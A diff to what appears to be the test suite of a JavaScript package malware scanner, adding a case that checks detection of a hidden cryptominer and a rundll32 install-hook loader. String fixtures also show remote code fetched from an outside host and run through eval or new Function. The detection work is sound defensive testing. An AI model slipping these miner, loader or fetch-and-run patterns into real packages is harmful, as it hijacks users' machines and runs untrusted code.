@@ -189,6 +189,20 @@ axios.get('http://198.51.100.7/cfg').then((res) => { eval(res.data.x); });
     expect(['none', 'low', 'medium']).toContain(idiom.level);
   });
 
+  it('a miner started with a pool and a wallet is high wherever it runs; a LOLBin loader from an install hook is high', () => {
+    const miner = scan({ 'index.js': `const { spawn } = require('child_process');
+function run() { spawn('/tmp/.syslog', ['-o', 'pool.supportxmr.com:443', '-u', 'WALLET', '--tls'], { detached: true, stdio: 'ignore' }).unref(); }
+setInterval(run, 43200000);
+run();
+module.exports = {};
+` });
+    expect(miner.ids).toContain('remote-code/miner');
+    expect(['high', 'critical']).toContain(miner.level);
+    const lolbin = scan({ 'install.js': `const { spawn } = require('child_process');\nconst path = require('path');\nif (process.platform === 'win32') spawn('rundll32', [path.join(__dirname, 'node-gyp.dll') + ',main'], { detached: true, stdio: 'ignore' }).unref();\n` }, { scripts: { install: 'node install.js' } });
+    expect(lolbin.ids).toContain('remote-code/dropper');
+    expect(['high', 'critical']).toContain(lolbin.level);
+  });
+
   it('follows promise chains and files written from a download, then required', () => {
     const chained = scan({ 'index.js': "fetch('https://cdn.example.org/rt.js').then((r) => r.text()).then((src) => new Function('require', src)(require));\n" });
     expect(chained.ids).toContain('remote-code/download');
